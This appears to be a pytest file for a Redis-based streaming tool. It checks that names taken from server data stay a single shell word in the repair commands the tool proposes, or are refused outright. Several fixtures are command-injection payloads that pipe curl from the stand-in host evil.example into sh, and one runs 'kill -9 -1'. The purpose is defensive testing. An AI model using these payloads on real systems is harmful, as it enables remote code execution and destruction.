"""Names that a stranger wrote stay one word of each command that Penstock proposes, or are refused by name."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
from dataclasses import replace
from typing import Any

import pytest
import redis

import penstock
from penstock.__main__ import main
from penstock.cli import of_node
from penstock.views import bottleneck, doctor_nodes, doctor_server
from penstock.views import doctor as stream_rules
from penstock.views.partitions import PlacedPartition, view_partitions
from penstock.views.servers import fix_of
from penstock_common.errors import DamagedKey, SourceError
from penstock_common.explain.queues import find_foreign_workers
from penstock_common.server.error_translation import translate
from penstock_common.server.hosts import is_host
from penstock_common.server.nodes import HalfMovedSlot, NodeState
from penstock_common.server.topology import SlotMap
from penstock_common.stream.client import connect
from penstock_common.stream.damage import KINDS, repair_of
from penstock_common.stream.groups.roster import load_roster
from penstock_common.stream.streams import load_stream
from penstock_producer.jobs.allowlist import Allowlist
from penstock_producer.jobs.task import ShardTask
from tests.front.views.test_server_rules import info
from tests.front.views.test_stream_rules import FINE

HOSTILE = "x;curl${IFS}evil.example|sh;"
BROKEN_OUT = "{evil.x'; curl evil.example|sh; '}"
BASH = shutil.which("bash") or ""
GROUP = {"first": 0, "declared": 1, "holds": 1, "seen": 1, "kind": "shared"}


def words_of(command: str) -> list[str]:
    """Return the words of a command as a shell takes them. Operators between words are words of their own."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split, lexer.commenters = True, ""
    return list(lexer)


def is_one_word(command: str, text: str = HOSTILE) -> bool:
    """Return whether a text is there, and nowhere more than a part of one word."""
    return text in command and command.count(text) == sum(word.count(text) for word in words_of(command))


@pytest.fixture
def train(url: str) -> str:
    """Make a stream of one sample, and return the server's address."""
    with penstock.Writer("train", url=url, spec={"x": ("uint8", (4,))}) as writer:
        writer.write({"x": bytearray(4)})
    return url


@pytest.mark.parametrize("field", [f"g:{HOSTILE}", f"m:{HOSTILE}:worker", f"m:g:{HOSTILE}"])
def test_a_group_or_member_that_no_one_could_join_as_is_refused_by_name(
    train: str, field: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """`penstock doctor` told its user to paste `penstock groups drop train x;curl...|sh;`."""
    with connect(train) as client, redis.Redis.from_url(train) as raw:
        partition = load_stream(client, "train").partitions[0]
        assert load_roster(client, partition).groups == {}
        value = GROUP if field.startswith("g:") else {"seen": 1, "inc": "i"}
        raw.hset(partition.roster, field, json.dumps(value))
        with pytest.raises(DamagedKey, match=r"'x;curl\${IFS}evil.example\|sh;' is no name of a group or member"):
            load_roster(client, partition)
    for argv in (["inspect", "train"], ["doctor", "train", "--no-probe"], ["monitor", "train", "--json", "--once"]):
        main([*argv, "--url", train])
        assert "groups drop" not in "".join(capsys.readouterr())


@pytest.mark.parametrize("tag", ["x'; curl evil.example|sh; '", "x", "0123456789ab.0}:meta", "0123456789ab.0\n", 7])
def test_a_tag_that_is_none_is_refused_and_is_in_no_command(
    train: str, tag: object, capsys: pytest.CaptureFixture[str]
) -> None:
    """`inspect` and `audit` told their user to paste it between quotes, which it could end."""
    with connect(train) as client, redis.Redis.from_url(train) as raw:
        raw.hset("penstock:{train}:meta", "tags", json.dumps([tag]))
        with pytest.raises(DamagedKey, match=r"penstock:\{train\}:meta holds"):
            load_stream(client, "train")
    for argv in (["inspect", "train"], ["bad", "list", "train"], ["audit", "train"], ["doctor", "train", "--no-probe"]):
        main([*argv, "--url", train])
        assert "DEL" not in "".join(capsys.readouterr())


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_a_key_is_one_word_of_each_command_that_repairs_it(kind: str) -> None:
    """Keys that this process asks for are checked, and keys that a server names are not."""
    parts = {"ledger": ":0:ledger:g:0", "pos": ":0:pos:g", "dead": ":0:dead:g"}
    key = f"penstock:{BROKEN_OUT}{parts.get(kind, f':0:{kind}')}"
    repair = repair_of(key)
    assert repair
    stubs = "redis-cli() { :; }; penstock() { :; }; curl() { echo broken out; }; PATH=; PENSTOCK_URL=redis://h; "
    for command in repair.split("`")[1::2]:
        done = subprocess.run([BASH, "-c", stubs + command], capture_output=True, text=True, check=True)
        assert (done.stdout, done.stderr) == ("", "")


def test_a_foreign_worker_gives_a_process_id_and_a_host_or_neither(url: str) -> None:
    """`penstock doctor` told its user to paste `kill -9 -1; curl evil.example|sh # on h`."""
    cases = [
        ("-9 -1; curl evil.example|sh #", "h", "?", "h"),
        ("0", "h;curl${IFS}evil|sh;", "?", "?"),
        ("4242", "gpu_7.example.org", "4242", "gpu_7.example.org"),
    ]
    with connect(url) as client, redis.Redis.from_url(url) as raw:
        for pid, host, *shown in cases:
            raw.sadd("rq:workers:penstock", "rq:worker:w")
            raw.hset("rq:worker:w", mapping={"hostname": host, "pid": pid, "failed_job_count": "1"})
            (found,) = find_foreign_workers(client, ["penstock"])
            assert [found.pid, found.host] == shown
            (finding,) = stream_rules.only_own_workers([found])
            assert finding.fix.startswith(f"kill {shown[0]} on {shown[1]}, and start")


TASK: dict[str, Any] = {
    "stream": "t", "stream_id": "s", "epoch": 0, "manifest_id": "m", "shard": 0, "fingerprint": "f", "seed": 0
}  # fmt: skip


@pytest.mark.parametrize(
    "job",
    [
        {"source": {"kind": "dataset", "name": f"{HOSTILE}:f"}},
        {"source": {"kind": "images", "path": f"/elsewhere/{HOSTILE}"}},
        {"source": {"kind": "images", "path": "/data"}, "block_transform": f"os;{HOSTILE}:x"},
    ],
)
def test_the_option_that_would_allow_a_job_is_one_word(job: dict[str, Any]) -> None:
    """A worker's host is told to start it with `--allow` or `--root` and what the job named."""
    with pytest.raises(SourceError) as caught:
        Allowlist(("augment",), ("/data",)).check(ShardTask.parse({**TASK, **job}))
    command = str(caught.value).rpartition("start it with ")[2].partition(" if ")[0]
    assert is_one_word(command)


class Node:
    """A client of a cluster whose node has this host."""

    where = "redis://a:6379"

    def __init__(self, host: str, port: int = 6379) -> None:
        self.connection_pool: Any = self
        self.connection_kwargs = {"host": host, "port": port}

    def node_of(self, _: object) -> Node:
        """Return itself."""
        return self


def proposals() -> dict[str, str]:
    """Return each proposal that has a host, a folder or a user of a server in it."""
    node = NodeState(f"redis://{HOSTILE}:1", HOSTILE, 1, id="a", info={"role": "master"}, half_moved=(
        HalfMovedSlot(1, is_leaving=True, other="b"),
    ), clock_ahead_s=9.0)  # fmt: skip
    other = replace(node, where="redis://h:2", host="h", port=2, id="b", clock_ahead_s=0.0)
    found = {
        f"{of}: {one.check}": one.fix for of, one in doctor_nodes.check_nodes([node, other], []) if HOSTILE in one.fix
    }
    placed = [PlacedPartition(number, number, node.where, 1, 1) for number in range(2)]
    for at, line in enumerate(view_partitions("train", placed, [node, other]).commands):
        found |= {f"move {at}": line} if HOSTILE in line else {}
    folder = replace(FINE, payload=f"segments:/{HOSTILE}")
    for facts in (replace(folder, segments_seen=False), replace(folder, segments_seen=True)):
        found[f"segments {facts.segments_seen}"] = stream_rules.segments(facts).fix
    found["role"] = doctor_server.role(info(role="slave", master_host=HOSTILE, master_port=6379)).fix
    found["rights"] = doctor_server.rights(replace(info(), user=HOSTILE, refused=("xclaim",))).fix
    found["a node of a cluster"] = of_node("redis-cli CONFIG SET maxmemory 5mb", Node(HOSTILE))
    found["fix"] = fix_of(HOSTILE, 6379)
    slot = translate(redis.exceptions.TryAgainError("TRYAGAIN"), f"redis://{HOSTILE}:6379")
    found["half moved"] = str(slot).split("`")[1]
    return found


PROPOSALS = proposals()


@pytest.mark.parametrize("what", sorted(PROPOSALS))
def test_a_text_of_a_server_is_one_word_of_a_proposed_command(what: str) -> None:
    """Users paste the proposals of `doctor`, `monitor` and `partitions` into a shell."""
    assert is_one_word(PROPOSALS[what]), PROPOSALS[what]


def test_every_place_that_proposes_a_host_or_a_folder_is_looked_at() -> None:
    """The test above proves nothing of a proposal that is not made."""
    assert {
        "cluster: clocks",
        "fix",
        "half moved",
        "move 1",
        "rights",
        "role",
        "segments False",
        "segments True",
    } <= set(PROPOSALS)


def test_the_folder_of_a_full_disk_is_one_word() -> None:
    """The folder is text of the stream's meta, which any program that writes to the server can change."""
    facts = {"waits_for_folder": True, "folder": f"/{HOSTILE}", "waiting": 0, "held_bytes": 1, "spare_bytes": 0}
    now: Any = type("Now", (), facts)
    found = bottleneck._folder(now)
    assert found is not None
    assert is_one_word(found.remedy)


@pytest.mark.parametrize(
    ("host", "is_one"),
    [
        ("127.0.0.1", True), ("::1", True), ("fe80::1%eth0", True), ("redis_1", True), ("a-b.example.org.", True),
        ("größe.example", True), ("x" * 255, True), ("x" * 256, False), ("", False), ("-h", False), ("a b", False),
        (HOSTILE, False), ("a\n", False), ("a/b", False), ("$(x)", False),
    ],
)  # fmt: skip
def test_each_legal_host_is_one_and_no_command_is(host: str, is_one: bool) -> None:
    """A cluster with hosts of containers, of IPv6 or of another script must go on working."""
    assert is_host(host) is is_one


def test_a_node_that_announces_no_host_is_refused_by_name() -> None:
    """Its name would be in the addresses of all messages."""
    asked = ("a", 1)
    assert SlotMap._address([b"::1", 2], asked) == ("::1", 2)
    assert SlotMap._address([b"", 2], asked) == SlotMap._address([b"?", 2], asked) == ("a", 2)
    with pytest.raises(redis.exceptions.ConnectionError, match=r"names a node 'x;curl.*which is no host"):
        SlotMap._address([HOSTILE.encode(), 2], asked)
